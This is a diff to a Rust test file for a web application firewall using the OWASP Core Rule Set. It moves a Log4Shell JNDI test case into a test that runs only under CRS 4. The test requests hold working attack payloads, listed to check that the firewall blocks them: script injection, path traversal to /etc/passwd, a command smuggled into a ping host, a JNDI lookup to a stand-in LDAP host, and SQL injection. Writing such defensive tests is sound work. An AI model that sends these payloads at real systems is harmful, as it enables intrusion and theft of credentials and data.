@@ -67,7 +67,6 @@ fn decides(engine: &Engine) {
         get("/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
         get("/v1/files?name=../../../../etc/passwd", ""),
         get("/v1/ping?host=127.0.0.1;cat%20/etc/passwd", ""),
-        get("/v1/orders", "X-Api: ${jndi:ldap://a.example/x}\r\n"),
         post(r#"{"name": "1' UNION SELECT password FROM users -- "}"#),
     ] {
         check(engine, &request, Some(949_110));
@@ -83,7 +82,11 @@ fn decides(engine: &Engine) {
 
 #[test]
 fn crs_4_decides() {
-    decides(&engine(&crs4()));
+    let engine = engine(&crs4());
+    decides(&engine);
+    // Debian's 3.3.4 is older than what finds this.
+    let lookup = get("/v1/orders", "X-Api: ${jndi:ldap://a.example/x}\r\n");
+    check(&engine, &lookup, Some(949_110));
 }
 
 #[test]
